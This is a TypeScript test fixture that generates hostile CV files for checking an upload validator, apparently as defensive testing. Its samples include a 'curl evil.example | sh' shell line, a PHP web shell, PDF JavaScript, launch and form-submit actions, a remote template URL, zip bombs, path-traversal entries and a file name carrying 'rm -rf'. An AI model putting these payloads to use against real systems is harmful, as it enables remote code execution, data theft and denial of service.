import { deflateRawSync, deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { madeDoc, madeDocx, madePdf } from './made-files.ts';

export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
  /** What is wrong with it. */
  readonly kind: string;
}

const lines = ['Amara Okafor', 'Skills: TypeScript'];
const pdf = madePdf(lines);
const docx = madeDocx(lines);
const doc = madeDoc();
const txt = Buffer.from('Amara Okafor\nSkills: TypeScript\n');
const sound = { pdf, docx, doc, txt } as const;
type Ending = keyof typeof sound;
const endings = ['pdf', 'docx', 'doc', 'txt'] as const;

/** The same numbers each time: a failure comes again. */
function dice(seed: number): (most: number) => number {
  let state = seed;
  return (most) => {
    state = (Math.imul(state ^ (state >>> 15), 0x2c1b3c6d) + 0x9e3779b9) >>> 0;
    return (state ^ (state >>> 12)) % most;
  };
}

const otherKinds: readonly (readonly [string, Buffer])[] = [
  ['a program', Buffer.from('MZ\x90\0\x03\0\0\0\x04\0', 'latin1')],
  ['a program of Linux', Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1')],
  ['a picture', Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1')],
  ['a page', Buffer.from('<!doctype html><html><body>Hello</body></html>')],
  ['a drawing', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['a script', Buffer.from('(function () { document.cookie })()')],
  ['a script of a shell', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')],
  ['rich text', Buffer.from('{\\rtf1\\ansi Hello}')],
  ['an archive', Buffer.from(zipSync({ 'a.txt': new Uint8Array(10) }))],
  ['zeros', Buffer.alloc(600)],
  ['PHP', Buffer.from('<?php system($_GET["c"]); ?>')],
  ['a link to scripts', Buffer.from('<a href="javascript:alert(1)">me</a>')],
  ['broken letters', Buffer.from([0x41, 0xff, 0xfe, 0x81, 0x28, 0x41])],
  ['nothing', Buffer.alloc(0)],
  ['spaces', Buffer.from(' \n\t ')],
];

const action = (text: string) => madePdf(lines, { catalog: '/OpenAction 6 0 R', objects: [text] });
const hidden = deflateSync(Buffer.from('7 0 << /S /JavaScript /JS (app.alert(1)) >>')).toString('latin1');
const inStream = (filter: string, body: string) =>
  `<< /Type /ObjStm /N 1 /First 4 ${filter} /Length ${body.length} >>\nstream\n${body}\nendstream`;

const programs: readonly (readonly [string, Ending, Buffer])[] = [
  ['JavaScript', 'pdf', action('<< /S /JavaScript /JS (app.alert(1)) >>')],
  ['JavaScript, spelt oddly', 'pdf', action('<< /S /J#61v#61Script /JS (app.alert(1)) >>')],
  ['JavaScript behind a remark', 'pdf', action('<< /S %x\n/JavaScript /JS (app.alert(1)) >>')],
  ['JavaScript by reference', 'pdf', action('/JavaScript')],
  ['JavaScript in packed objects', 'pdf', action(inStream('/Filter /FlateDecode', hidden))],
  ['objects packed in a way of their own', 'pdf', action(inStream('/Filter /LZWDecode', 'x'))],
  [
    'a bomb of packed objects',
    'pdf',
    action(inStream('/Filter /FlateDecode', deflateSync(Buffer.alloc(60_000_000)).toString('latin1'))),
  ],
  ['a launch', 'pdf', action('<< /S /Launch /F (cmd.exe) >>')],
  ['a form that is sent', 'pdf', action('<< /S /SubmitForm /F (https://evil.example) >>')],
  [
    'an embedded file',
    'pdf',
    madePdf(lines, { catalog: '/Names << /EmbeddedFiles 6 0 R >>', objects: ['<< >>'] }),
  ],
  ['an attachment', 'pdf', action('<< /Type /Filespec /EF << /F 7 0 R >> >>')],
  [
    'a form with programs',
    'pdf',
    madePdf(lines, { catalog: '/AcroForm << /XFA [(a) 6 0 R] >>', objects: ['<< >>'] }),
  ],
  [
    'a password',
    'pdf',
    Buffer.from(pdf.toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 6 0 R'), 'latin1'),
  ],
  ['macros', 'docx', madeDocx(lines, { 'word/vbaProject.bin': new Uint8Array(20) })],
  [
    'a macro type',
    'docx',
    madeDocx(lines, {
      '[Content_Types].xml': '<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>',
    }),
  ],
  ['another file', 'docx', madeDocx(lines, { 'word/embeddings/a.xlsx': new Uint8Array(zipSync({})) })],
  ['a program inside', 'docx', madeDocx(lines, { 'word/setup.exe': new Uint8Array(9) })],
  ['a way out of its folder', 'docx', madeDocx(lines, { '../../evil.xml': '<a/>' })],
  [
    'definitions that grow',
    'docx',
    madeDocx(lines, { 'word/document.xml': '<!DOCTYPE x [<!ENTITY a "aa">]><w:document>&a;</w:document>' }),
  ],
  [
    'a template from elsewhere',
    'docx',
    madeDocx(lines, {
      'word/_rels/settings.xml.rels':
        '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm"/></Relationships>',
    }),
  ],
  ['no document', 'docx', Buffer.from(zipSync({ '[Content_Types].xml': new Uint8Array(5) }))],
  ['macros of old', 'doc', madeDoc(['Macros'])],
  ['macros in a project', 'doc', madeDoc(['_VBA_PROJECT'])],
  ['a file in old Word', 'doc', madeDoc(['\u0001Ole10Native'])],
  ['a password of old', 'doc', madeDoc([], { flags: 0x0100 })],
  ['a table that is no document', 'doc', madeDoc([], { word: 'Workbook' })],
  ['a locked package', 'doc', madeDoc(['EncryptedPackage'])],
];

/** An archive by hand: each part as it is told, whatever it holds. */
function archive(parts: readonly { name: string; packed: Buffer; size: number; at?: number }[]): Buffer {
  const pieces: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, packed, size, at } of parts) {
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(at ?? offset, 42);
    directory.push(central, Buffer.from(name));
    if (at !== undefined) continue;
    pieces.push(local, Buffer.from(name), packed);
    offset += 30 + name.length + packed.length;
  }
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(list.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...pieces, list, end]);
}

const huge = Buffer.alloc(60_000_000);
const flat = deflateRawSync(huge);
const bombs: readonly (readonly [string, Buffer])[] = [
  ['a flat bomb', madeDocx(lines, { 'word/media/a.png': huge })],
  ['a bomb that lies about its size', archive([{ name: 'word/document.xml', packed: flat, size: 100 }])],
  [
    'a bomb in the document',
    madeDocx(lines, { 'word/document.xml': `<w:document>${' '.repeat(40_000_000)}</w:document>` }),
  ],
  ['a nested bomb', madeDocx(lines, { 'word/inner.docx': madeDocx(lines, { 'word/media/a.png': huge }) })],
  [
    'many bombs',
    madeDocx(
      lines,
      Object.fromEntries([1, 2, 3].map((number) => [`word/${number}.xml`, Buffer.alloc(20_000_000)])),
    ),
  ],
  [
    'overlapping parts',
    archive([
      { name: 'word/document.xml', packed: flat, size: huge.length },
      ...[1, 2, 3, 4].map((number) => ({
        name: `word/${number}.xml`,
        packed: flat,
        size: huge.length,
        at: 0,
      })),
    ]),
  ],
  [
    'too many parts',
    madeDocx(
      lines,
      Object.fromEntries(Array.from({ length: 1200 }, (_, number) => [`word/${number}.xml`, '<a/>'])),
    ),
  ],
];

const polyglots: readonly (readonly [string, string, Buffer])[] = [
  ['an archive behind a PDF', 'pdf', Buffer.concat([pdf, docx])],
  ['a page behind a PDF', 'pdf', Buffer.concat([pdf, Buffer.from('<html><script>alert(1)</script>')])],
  ['a PDF behind a page', 'pdf', Buffer.concat([Buffer.from('<html>'), pdf])],
  [
    'a page in the head of a PDF',
    'pdf',
    Buffer.from(pdf.toString('latin1').replace('\n', '\n%<script>alert(1)</script>\n'), 'latin1'),
  ],
  ['an archive behind a program', 'docx', Buffer.concat([Buffer.from('MZ'), docx])],
  ['a PDF before a document', 'docx', Buffer.concat([pdf, docx])],
  ['a document with a remark at its end', 'docx', Buffer.concat([docx, Buffer.from('<script>')])],
  ['a PDF as text', 'txt', pdf],
  ['a document as text', 'txt', docx],
  ['a NUL in text', 'txt', Buffer.from('Amara\0Okafor')],
  ['an escape in text', 'txt', Buffer.from('Amara \x1b[2J')],
  ['old Word cut short', 'doc', doc.subarray(0, 3000)],
];

const strangeNames = [
  '../../../etc/cv.exe',
  'cv\u202Efdp.exe',
  'cv.pdf\r\nContent-Type: text/html.html',
  'cv".pdf.js',
  "cv.pdf'; rm -rf.sh",
  'cv.pdf.',
  'cv',
  '.pdf.html',
  'cv.pdf%00.php',
  'cv.PDF ',
];

/** Files that nobody may be served again, the same for the same seed. */
export function hostileFiles(count: number, seed = 20_261_121): readonly HostileFile[] {
  const roll = dice(seed);
  const files: HostileFile[] = [
    ...otherKinds.flatMap(([kind, bytes]) =>
      endings.map((ending) => ({ name: `cv.${ending}`, bytes, kind })),
    ),
    ...endings.flatMap((is) =>
      endings
        .filter((says) => says !== is)
        .map((says) => ({ name: `cv.${says}`, bytes: sound[is], kind: `${is} as ${says}` })),
    ),
    ...programs.map(([kind, ending, bytes]) => ({ name: `cv.${ending}`, bytes, kind })),
    ...bombs.map(([kind, bytes]) => ({ name: 'cv.docx', bytes, kind })),
    ...polyglots.map(([kind, ending, bytes]) => ({ name: `cv.${ending}`, bytes, kind })),
    ...strangeNames.slice(0, 9).map((name) => ({ name, bytes: txt, kind: 'a strange name' })),
  ];
  while (files.length < count) {
    const ending = endings[roll(3)] ?? 'pdf';
    const bytes = sound[ending];
    const cut = 1 + roll(bytes.length - 40);
    files.push({ name: `cv.${ending}`, bytes: bytes.subarray(0, cut), kind: `${ending} cut at ${cut}` });
  }
  return files;
}
